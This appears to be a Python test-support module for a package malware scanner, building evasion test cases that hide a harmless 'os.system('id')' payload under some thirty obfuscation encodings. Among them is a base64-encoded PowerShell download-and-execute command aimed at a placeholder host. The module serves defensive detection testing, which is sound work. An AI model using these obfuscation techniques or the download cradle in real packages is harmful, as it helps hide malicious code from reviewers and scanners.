"""One case of the evasion suite: a file, what goes with it, and how bad the worst finding in it has to be."""

from __future__ import annotations

import base64
import binascii
import bz2
import codecs
import gzip
import lzma
import textwrap
import zlib
from typing import TYPE_CHECKING, NamedTuple

from assay.rules.catalogue import ALL
from assay.scanner.code.reading import Sources
from assay.scanner.models import EntryPoint, Package, PackedFile, Severity
from tests.listed_corpus import ListedCorpus

if TYPE_CHECKING:
    from assay.scanner.models import Finding

HIGH, MEDIUM, LOW, CRITICAL = Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.CRITICAL
INIT, SETUP = "pkg/__init__.py", "setup.py"
_IDENTITY = frozenset({"MAL", "ADV", "IOC", "TYPO", "DEPC", "DENY", "LOCK", "MANI"})
_NO_FILES: dict[str, str] = {}

PAYLOAD = b"import os; os.system('id')"
"""What all encoded cases hide. It runs nothing but ``id``."""


class Case(NamedTuple):
    """A snippet under a short name. ``worst`` is the least severity that some behaviour rule must give it.

    ``path`` is the file that it stands in, ``files`` what lies beside it, ``points`` entry points as
    ``tests.packages`` writes them. Words of ``ENCODED`` in brackets, as ``<B64>``, stand for the payload. ``family``
    names a family of rules that has to be among those that speak; ``unseen`` says what is not seen yet.
    """

    name: str
    worst: Severity
    text: str
    path: str = INIT
    files: dict[str, str] = _NO_FILES
    points: str = ""
    family: str = ""
    unseen: str = ""


ENCODED = {
    "B64": base64.b64encode(PAYLOAD).decode(),
    "B64REV": base64.b64encode(PAYLOAD).decode()[::-1],
    "B64ZLIB": base64.b64encode(zlib.compress(PAYLOAD)).decode(),
    "B32": base64.b32encode(PAYLOAD).decode(),
    "B85": repr(base64.b85encode(PAYLOAD)),
    "A85": repr(base64.a85encode(PAYLOAD)),
    "HEX": PAYLOAD.hex(),
    "HEXES": "".join(f"\\x{byte:02x}" for byte in PAYLOAD),
    "OCTALS": "".join(f"\\{byte:03o}" for byte in PAYLOAD),
    "ORDS": str(list(PAYLOAD)),
    "SHIFTED": str([byte + 3 for byte in PAYLOAD]),
    "XORED": repr(bytes(byte ^ 42 for byte in PAYLOAD)),
    "XORKEY": repr(bytes(byte ^ b"key"[at % 3] for at, byte in enumerate(PAYLOAD))),
    "REVERSED": repr(PAYLOAD.decode()[::-1]),
    "ROT13": codecs.encode(PAYLOAD.decode(), "rot13"),
    "NUMBER": str(int.from_bytes(PAYLOAD, "big")),
    "LENGTH": str(len(PAYLOAD)),
    "ZLIB": repr(zlib.compress(PAYLOAD)),
    "GZIP": repr(gzip.compress(PAYLOAD, mtime=0)),
    "BZ2": repr(bz2.compress(PAYLOAD)),
    "LZMA": repr(lzma.compress(PAYLOAD)),
    "UU": repr(binascii.b2a_uu(PAYLOAD)),
    "BITS": " ".join(f"{byte:08b}" for byte in PAYLOAD),
    "BLANKS": repr("".join(" \t"[int(bit)] for byte in PAYLOAD for bit in f"{byte:08b}")),
    "PERCENT": "".join(f"%{byte:02x}" for byte in PAYLOAD),
    "ENTITIES": "".join(f"&#{byte};" for byte in PAYLOAD),
    "POWERSHELL": base64.b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a')".encode("utf-16-le")
    ).decode(),
    "BIG": base64.b64encode(bytes(range(256)) * 40).decode(),
}


def written(text: str) -> str:
    """The snippet as it stands in its file."""
    text = textwrap.dedent(text).lstrip("\n")
    for name, value in ENCODED.items():
        text = text.replace(f"<{name}>", value)
    return text


def files_of(case: Case) -> tuple[dict[str, str], str]:
    """All files of a case, and how they are packed: what is built lies in an sdist under one folder."""
    files = {path: written(text) for path, text in case.files.items()}
    files[case.path] = written(case.text)
    if any(path in files for path in (SETUP, "pyproject.toml")):
        return {f"demo-1.0/{path}": text for path, text in files.items()}, "sdist"
    return files, "wheel"


def package_of(case: Case, *, every: bool) -> Package:
    """The package that a case makes, read with or without the prefilter."""
    files, packed = files_of(case)
    points = []
    for line in case.points.splitlines():
        group, _, rest = line.strip().partition(" ")
        name, _, target = rest.partition(" = ")
        points.append(EntryPoint(group, name, target))
    sources = Sources(every=every)
    for path in sorted(files):
        sources.take(path, files[path].encode())
    return Package(
        purl="pkg:pypi/demo@1.0",
        path="demo.whl" if packed == "wheel" else "demo.tar.gz",
        packed="wheel" if packed == "wheel" else "sdist",
        files=tuple(PackedFile(path, "0" * 64, len(files[path])) for path in sorted(files)),
        entry_points=tuple(points),
        code=sources.finish(packed, files, tuple(points)).code,
    )


def findings(package: Package) -> list[Finding]:
    """What all rules on behaviour say of a package, in the order of rules."""
    rules = [rule for rule in ALL if rule.check_package and rule.id.partition("-")[0] not in _IDENTITY]
    corpus = ListedCorpus()
    return [found for rule in rules if rule.check_package for found in rule.check_package(package, corpus)]


def worst(found: list[Finding]) -> Severity | None:
    """The worst severity among findings, None if there are none."""
    return min((finding.severity for finding in found), key=lambda severity: severity.rank, default=None)


def told(found: list[Finding]) -> str:
    """Findings as a person reads them when a case fails."""
    return "; ".join(f"{each.rule} {each.severity} {each.message} {each.evidence}" for each in found) or "nothing"
